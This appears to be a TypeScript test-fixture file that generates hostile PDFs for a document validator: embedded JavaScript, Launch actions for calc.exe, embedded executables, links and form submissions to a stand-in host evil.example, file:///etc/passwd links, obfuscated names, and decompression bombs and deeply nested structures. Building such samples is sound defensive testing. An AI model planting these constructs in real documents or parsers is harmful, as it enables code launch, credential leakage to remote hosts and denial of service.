import { deflateSync } from 'node:zlib';
import { PDFDocument, type PDFContext, PDFHexString, PDFName, PDFString } from 'pdf-lib';

const MB = 1024 * 1024;

export type HostilePdf = [what: string, bytes: Buffer, code: 'pdf_active' | 'pdf_unreadable'];

const objectOf = (number: number, content: string | Buffer): Buffer =>
  Buffer.concat([Buffer.from(`${number} 0 obj\n`), Buffer.from(content), Buffer.from('\nendobj\n')]);

const streamOf = (dictionary: string, bytes: Buffer | string): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${Buffer.byteLength(bytes)} >>\nstream\n`),
    Buffer.from(bytes),
    Buffer.from('\nendstream'),
  ]);

interface Parts {
  catalog?: string;
  pages?: string;
  page?: string;
  content?: Buffer;
  more?: Buffer[];
  trailer?: string;
}

/** A page written by hand; further objects are numbered from 5. */
export function handwrittenPdf(parts: Parts = {}): Buffer {
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    objectOf(1, `<< /Type /Catalog /Pages 2 0 R ${parts.catalog ?? ''} >>`),
    objectOf(2, parts.pages ?? '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    objectOf(3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R ${parts.page ?? ''} >>`),
    objectOf(4, parts.content ?? streamOf('', 'q Q')),
    ...(parts.more ?? []),
    Buffer.from(`trailer\n<< /Root 1 0 R ${parts.trailer ?? ''} >>\n%%EOF`),
  ]);
}

/** One object followed by white space, as an object stream. */
const listOf = (bytes: number): Buffer => Buffer.concat([Buffer.from('99 0 (a)'), Buffer.alloc(bytes, ' ')]);

export const objectList = (number: number, filter: string, bytes: Buffer): Buffer =>
  objectOf(number, streamOf(`/Type /ObjStm /N 1 /First 5 ${filter}`, bytes));

export const packedList = (number: number, bytes: number): Buffer =>
  objectList(number, '/Filter /FlateDecode', deflateSync(listOf(bytes)));

export const plainList = (number: number): Buffer => objectList(number, '', listOf(10));

const opens = (action: string): Buffer => handwrittenPdf({ catalog: `/OpenAction ${action}` });
const annotated = (annotation: string, more: Buffer[] = []): Buffer =>
  handwrittenPdf({ page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>]`, more });
const linked = (uri: string): Buffer => annotated(`/Subtype /Link /A << /S /URI /URI ${uri} >>`);

async function written(
  change: (document: PDFDocument, context: PDFContext) => unknown,
  useObjectStreams = true,
): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([200, 200]).drawText('receipt');
  await change(document, document.context);
  return Buffer.from(await document.save({ useObjectStreams }));
}

/** PDFs with active content, embedded files or links to files. */
export async function activePdfs(): Promise<HostilePdf[]> {
  const active: [string, Buffer][] = [
    ['a script for opening', await written((document) => document.addJavaScript('hello', 'app.alert(1)'))],
    ['a script beside a list of objects', await written((document) => document.addJavaScript('a', 'b'), false)],
    ['an attached file', await written((document) => document.attach(Buffer.from('MZ'), 'a.exe', { mimeType: 'x/y' }))],
    [
      'an attachment whose stream has no type',
      handwrittenPdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) << /EF << /F 5 0 R >> /F (a.exe) >>] >> >>',
        more: [objectOf(5, streamOf('', 'MZ'))],
      }),
    ],
    [
      'an attachment of an annotation',
      annotated('/Subtype /FileAttachment /FS << /EF << /UF 5 0 R >> >>', [objectOf(5, streamOf('', 'MZ'))]),
    ],
    ['an associated file', handwrittenPdf({ page: '/AF [<< /F (a.exe) >>]' })],
    [
      'a description of a file that nothing refers to',
      handwrittenPdf({
        more: [objectOf(9, '<< /Type /Filespec /F (C:\\\\a.exe) >>')],
      }),
    ],
    ['a portfolio', handwrittenPdf({ catalog: '/Collection << /View /D >>' })],
    ['a script in another place', annotated('/Subtype /Widget /AA << /K << /S /JavaScript /JS (1) >> >>')],
    ['a program that is launched', opens('<< /S /Launch /F (calc.exe) >>')],
    [
      'a program that is launched after another page is shown',
      opens('<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /Print >>] >>'),
    ],
    ['a document on another machine', opens('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>')],
    [
      'a document on another machine, behind a link',
      annotated('/Subtype /Link /A << /S /GoToR /F << /UF (\\\\\\\\evil.example\\\\a.pdf) >> >>'),
    ],
    ['an embedded document', opens('<< /S /GoToE /T << /R /C >> >>')],
    ['a form that submits itself', opens('<< /S /SubmitForm /F (http://evil.example) >>')],
    ['a form that reads a file', opens('<< /S /ImportData /F (a.fdf) >>')],
    [
      'a form in XML',
      handwrittenPdf({ catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', more: [objectOf(5, streamOf('', '<xdp/>'))] }),
    ],
    ['a film', annotated('/Subtype /Movie /Movie << /F (a.mpg) >>')],
    ['a sound', annotated('/Subtype /Link /A << /S /Sound /Sound 4 0 R >>')],
    ['a film on a screen', annotated('/Subtype /Screen /A << /S /Rendition >>')],
    ['rich media', annotated('/Subtype /RichMedia')],
    ['a model to turn', annotated('/Subtype /3D')],
    ['a page of another file', handwrittenPdf({ content: streamOf('/F (\\\\\\\\evil.example\\\\a)', '') })],
    ['a page in the language of printers', handwrittenPdf({ more: [objectOf(5, streamOf('/Subtype /PS', '1'))] })],
    ['a link to a file', linked('(file:///etc/passwd)')],
    ['a link to another machine', linked('(\\\\\\\\evil.example\\\\share)')],
    ['a link with a script', linked('(java script:alert\\(1\\))')],
    ['a link in hexadecimal', linked(PDFHexString.fromText('file://evil.example/a').toString())],
    ['a base URL on another host', handwrittenPdf({ catalog: '/URI << /Base (file://evil.example/) >>' })],
    ['names written in numbers', opens('<< /#53 /L#61unch >>')],
    ['the key of a script written in numbers', handwrittenPdf({ catalog: '/#4aS (app.alert\\(1\\))' })],
    [
      'a list of objects under a name in numbers',
      Buffer.from(
        handwrittenPdf({ more: [plainList(5)] })
          .toString('latin1')
          .replace('/ObjStm', '/#4fbjStm'),
        'latin1',
      ),
    ],
    [
      'a script in a list of objects',
      await written((document, context) => {
        document.catalog.set(
          PDFName.of('OpenAction'),
          context.register(context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })),
        );
      }),
    ],
  ];
  return active.map(([what, bytes]): HostilePdf => [what, bytes, 'pdf_active']);
}

/** PDFs that are damaged or exhaust resources. */
export async function unreadablePdfs(): Promise<HostilePdf[]> {
  const honest = await written(() => undefined);
  const xref = '/Type /XRef /Root 1 0 R /Size 5';
  const unreadable: [string, Buffer][] = [
    ['a first line and nothing else', Buffer.from('%PDF-1.7\n')],
    ['a web page behind a first line', Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>')],
    ['a program behind a first line', Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.from('MZ\x90\0'.repeat(999))])],
    ['half a document', honest.subarray(0, honest.length / 2)],
    ['no page', handwrittenPdf({ pages: '<< /Type /Pages /Kids [] /Count 0 >>' })],
    ['pages that are not there', handwrittenPdf({ pages: '<< /Type /Pages /Kids [3 0 R 77 0 R] /Count 2 >>' })],
    ['pages in a circle', handwrittenPdf({ pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' })],
    [
      'the same page a thousand times',
      handwrittenPdf({
        pages: `<< /Type /Pages /Kids [${'3 0 R '.repeat(1000)}] /Count 1000 >>`,
      }),
    ],
    [
      'a parent that is its own',
      Buffer.from(
        handwrittenPdf({ pages: '<< /Type /Pages /Parent 2 0 R /Kids [3 0 R] /Count 1 >>' })
          .toString('latin1')
          .replace('/MediaBox [0 0 200 200]', ''),
      ),
    ],
    ['a page without a size', Buffer.from(handwrittenPdf().toString('latin1').replace('[0 0 200 200]', '[0 0]'))],
    ['content that cannot be unpacked', handwrittenPdf({ content: streamOf('/Filter /FlateDecode', 'not packed') })],
    [
      'a page that unpacks to 140 MB',
      handwrittenPdf({
        content: streamOf('/Filter /FlateDecode', deflateSync(Buffer.alloc(140 * MB, ' '))),
      }),
    ],
    [
      'a page packed three times',
      handwrittenPdf({
        content: streamOf(
          '/Filter [/FlateDecode /FlateDecode /FlateDecode]',
          deflateSync(deflateSync(deflateSync(' '))),
        ),
      }),
    ],
    [
      'a picture of ten thousand million dots',
      handwrittenPdf({
        more: [objectOf(5, streamOf('/Subtype /Image /Width 100000 /Height 100000', ''))],
      }),
    ],
    ['one list of objects that unpacks to 40 MB', handwrittenPdf({ more: [packedList(5, 40 * MB)] })],
    [
      'many lists of objects that unpack to 40 MB together',
      handwrittenPdf({
        more: Array.from({ length: 8 }, (_, index) => packedList(5 + index, 5 * MB)),
      }),
    ],
    [
      'a list of objects that is packed twice',
      handwrittenPdf({
        more: [objectList(5, '/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(listOf(10))))],
      }),
    ],
    [
      'a list of objects packed in an odd way',
      handwrittenPdf({
        more: [objectList(5, '/Filter /ASCIIHexDecode', Buffer.from('393920302028612920>'))],
      }),
    ],
    [
      'a table of four thousand million objects',
      handwrittenPdf({
        more: [objectOf(5, streamOf(`${xref} /W [0 0 0] /Index [0 4000000000]`, ''))],
      }),
    ],
    ['lists in lists, a million deep', handwrittenPdf({ more: [objectOf(5, '['.repeat(MB))] })],
    ['a password', handwrittenPdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>' })],
  ];
  return unreadable.map(([what, bytes]): HostilePdf => [what, bytes, 'pdf_unreadable']);
}
